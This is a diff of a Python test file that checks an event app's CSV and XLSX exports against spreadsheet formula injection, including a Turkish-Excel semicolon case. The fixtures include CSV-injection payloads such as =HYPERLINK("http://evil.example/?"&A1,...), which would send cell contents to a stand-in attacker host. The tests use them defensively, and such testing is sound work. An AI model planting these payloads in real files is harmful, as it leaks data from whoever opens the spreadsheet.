@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from datetime import timedelta
 
 import pytest
@@ -27,21 +28,60 @@ def _dangerous(cell: str) -> bool:
     return cell.startswith(FORMULA_STARTS)
 
 
-def _expected(value) -> str:
-    text = str(value)
-    return "'" + text if isinstance(value, str) and _dangerous(text) else text
+#: where a spreadsheet may start a cell inside a cell's text, with either list separator
+SPLIT = re.compile(r"[,;\t\r\n]")
+
+
+def _formula_inside(text: str) -> bool:
+    """Some piece of `text` that a spreadsheet splitting on `,` or `;` (or a line break) would
+    read as a cell of its own starts a formula."""
+    return _dangerous(text) or any(
+        piece.lstrip(" ").startswith(FORMULA_STARTS[:4]) for piece in SPLIT.split(text)[1:]
+    )
 
 
 @SETTINGS
-@given(header=st.lists(CELLS, min_size=1, max_size=4), rows=ROWS)
-def test_csv_cells_read_back_neutralised(header, rows):
-    data = csv_bytes(header, rows)
+@given(
+    header=st.lists(CELLS, min_size=1, max_size=4),
+    rows=ROWS,
+    delimiter=st.sampled_from([",", ";"]),
+)
+def test_csv_cells_read_back_neutralised(header, rows, delimiter):
+    data = csv_bytes(header, rows, delimiter)
     assert data.startswith(b"\xef\xbb\xbf")
-    streamed = "".join(csv_lines(header, rows)).encode("utf-8")
+    streamed = "".join(csv_lines(header, rows, delimiter)).encode("utf-8")
     assert streamed == data
     text = data.decode("utf-8-sig")
-    read = list(csv.reader(io.StringIO(text, newline="")))
-    assert read == [[_expected(v) for v in row] for row in [header, *rows]]
+    read = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
+    assert len(read) == len(rows) + 1
+    for got_row, row in zip(read, [header, *rows], strict=True):
+        for got, value in zip(got_row, row, strict=True):
+            if isinstance(value, int):
+                assert got == str(value)  # numbers, negative ones too, stay numbers
+                continue
+            assert not _formula_inside(got), got
+            # only apostrophes were added, and only where a formula would have started
+            assert got.replace("'", "") == value.replace("'", "")
+            if not _formula_inside(value):
+                assert got == value
+
+
+def test_numbers_are_bare_and_text_is_quoted():
+    """A number written as text would not add up in Excel; -5 is a number, not a formula."""
+    data = csv_bytes(["Ad", "Sayı"], [["-5", -5], [None, 12]], ";")
+    assert data.decode("utf-8-sig") == '"Ad";"Sayı"\r\n"\'-5";-5\r\n"";12\r\n'
+
+
+@pytest.mark.parametrize("written", [",", ";"])
+@pytest.mark.parametrize("read_with", [",", ";"])
+def test_a_formula_after_a_separator_stays_text_whatever_excel_splits_on(written, read_with):
+    needs = 'Vegan;=HYPERLINK("http://evil.example","Tıkla"),+1'
+    data = csv_bytes(["Ad", "İhtiyaçlar", "Sayı"], [["Ayşe", needs, -3]], written)
+    for line in data.decode("utf-8-sig").splitlines():
+        for field in line.split(read_with):  # as Excel splits it, quotes or not
+            if re.fullmatch(r"-?\d+", field):
+                continue  # a number, negative or not, is no formula
+            assert not field.strip('" ').startswith(FORMULA_STARTS), field
 
 
 @SETTINGS
@@ -104,8 +144,9 @@ def imported(app, api, create_organisation, create_event, create_invitation):
     return event
 
 
-def _csv_cells(data: bytes) -> list[str]:
-    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
+def _csv_cells(data: bytes, delimiter: str = ",") -> list[str]:
+    text = io.StringIO(data.decode("utf-8-sig"))
+    return [c for row in csv.reader(text, delimiter=delimiter) for c in row]
 
 
 def _xlsx_cells(data: bytes) -> list:
@@ -113,9 +154,9 @@ def _xlsx_cells(data: bytes) -> list:
     return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
 
 
-def _assert_csv_safe(data: bytes, *must_contain: str) -> None:
-    cells = _csv_cells(data)
-    assert not [c for c in cells if _dangerous(c)], [c for c in cells if _dangerous(c)]
+def _assert_csv_safe(data: bytes, *must_contain: str, delimiter: str = ",") -> None:
+    cells = _csv_cells(data, delimiter)
+    assert not [c for c in cells if _formula_inside(c)], [c for c in cells if _formula_inside(c)]
     for text in must_contain:
         assert "'" + text in cells, text
 
@@ -135,8 +176,31 @@ def test_rsvp_answers_csv_and_xlsx(imported, client, auth):
     auth.login("organiser")
     csv_data = client.get(f"/events/{imported.id}/answers.csv").data
     _assert_csv_safe(csv_data, HOSTILE_NAME, HOSTILE_ORG, HOSTILE_POSITION, "-2+3")
+    semicolons = client.get(f"/events/{imported.id}/answers.csv?sep=;").data
+    assert semicolons.startswith(b"\xef\xbb\xbf") and b'";"' in semicolons
+    _assert_csv_safe(semicolons, HOSTILE_NAME, HOSTILE_ORG, delimiter=";")
     xlsx = client.get(f"/events/{imported.id}/answers.xlsx").data
     _assert_xlsx_safe(xlsx, HOSTILE_NAME, HOSTILE_ORG, HOSTILE_POSITION, "-2+3")
+
+
+def test_a_formula_typed_after_a_semicolon_in_needs(imported, client, auth):
+    """Issue 13: `=HYPERLINK(…)` after a `;` in a needs field became a live formula when the
+    answers CSV was opened in Turkish Excel (which splits on `;`)."""
+    from reslog_events.extensions import db
+    from reslog_events.invitations.models import Invitation
+
+    invitation = db.session.scalar(db.select(Invitation).filter_by(event_id=imported.id))
+    invitation.dietary_needs = 'Vejetaryen;=HYPERLINK("http://evil.example/?"&A1,"Tıkla")'
+    db.session.commit()
+    auth.login("organiser")
+    for sep in (",", ";"):
+        data = client.get(f"/events/{imported.id}/answers.csv", query_string={"sep": sep}).data
+        text = data.decode("utf-8-sig")
+        assert "HYPERLINK" in text
+        for read_with in (",", ";"):
+            for line in text.splitlines():
+                for field in line.split(read_with):  # as Excel splits it, quotes or not
+                    assert not field.strip('" ').startswith(FORMULA_STARTS), (sep, field)
 
 
 def test_checkin_log_csv(imported, client, auth):
